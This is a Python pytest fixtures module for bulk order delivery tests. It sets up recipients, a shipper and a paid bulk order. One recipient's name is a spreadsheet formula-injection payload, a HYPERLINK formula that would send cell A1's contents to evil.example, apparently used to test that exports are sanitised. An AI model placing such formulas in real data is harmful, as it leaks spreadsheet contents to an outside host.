"""Fixtures of the bulk order delivery tests: the workflow's branch tree, people and shop (each product
from its own merchant), a shipper (MANAGE_ORDERS) and a paid bulk order of three recipients and the
branch's own quick order:

- 张三 (a verified member's mobile): 2 apples and 1 gift pack (oil + 2 tea, packed by the oil's merchant);
- 李四: 1 oil;
- =HYPERLINK(...) — a name meant to run in a spreadsheet: 1 apple;
- the branch itself: 3 apples.
"""

import datetime
from types import SimpleNamespace

import pytest

from bulk_orders import services
from bulk_orders.models import BulkRecipient
from bulk_orders.payments import record_transfer
from mall.permissions import PermissionEnum
from members.models import MemberProfile
from tests.bulk_orders import flow_fixtures
from tests.members.conftest import grant

tree, people, shop, draft = flow_fixtures.tree, flow_fixtures.people, flow_fixtures.shop, flow_fixtures.draft
fast_password_hashing, no_relief_minimum = flow_fixtures.fast_password_hashing, flow_fixtures.no_relief_minimum
api_for, make_user = flow_fixtures.api_for, flow_fixtures.make_user

MEMBER_PHONE = "+8613800000001"
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def shipper(django_user_model):
    user = make_user(django_user_model, "shipper@example.com", is_staff=True)
    grant(user, PermissionEnum.MANAGE_ORDERS)
    return user


def recipient(bulk_order, name, phone, row):
    return BulkRecipient.objects.create(
        bulk_order=bulk_order, name=name, phone=phone, province="广东省", city="深圳市", district="南山区",
        street_address=f"科技园 {row} 号", row_number=row,
    )  # fmt: skip


def pay(bulk_order, shipper, reference="BANK-0001"):
    bulk_order.refresh_from_db()
    record_transfer(
        bulk_order,
        amount=bulk_order.order.total_amount,
        received_on=datetime.date(2026, 9, 1),
        payer_name="科技园第一联合工会",
        bank_reference=reference,
        by=shipper,
    )
    bulk_order.refresh_from_db()
    return bulk_order


@pytest.fixture
def paid(draft, people, shop, shipper):
    zhang = recipient(draft, "张三", MEMBER_PHONE, 2)
    li = recipient(draft, "李四", "+8613800000002", 3)
    evil = recipient(draft, EVIL_NAME, "+8613800000003", 4)
    draft.lines.create(recipient=zhang, variant=shop.apple, quantity=2, row_number=2)
    draft.lines.create(recipient=zhang, gift_pack=shop.pack, quantity=1, row_number=2)
    draft.lines.create(recipient=li, variant=shop.oil, quantity=1, row_number=3)
    draft.lines.create(recipient=evil, variant=shop.apple, quantity=1, row_number=4)
    services.add_lines(draft, [(shop.apple.sku, 3)], by=people.clerk)
    services.submit(draft, by=people.clerk)
    services.approve(draft, by=people.approver)
    services.place(draft, by=people.clerk)
    pay(draft, shipper)
    assert draft.status == "PAID"
    return SimpleNamespace(bulk_order=draft, zhang=zhang, li=li, evil=evil)


@pytest.fixture
def member(django_user_model):
    user = make_user(django_user_model, "zhang@example.com", phone=MEMBER_PHONE)
    MemberProfile.objects.create(user=user, number="M0001", verification_status="verified", real_name="张三")
    return user


def lines_of(bulk_order):
    return {line.product_sku: line for line in bulk_order.order.lines.all()}
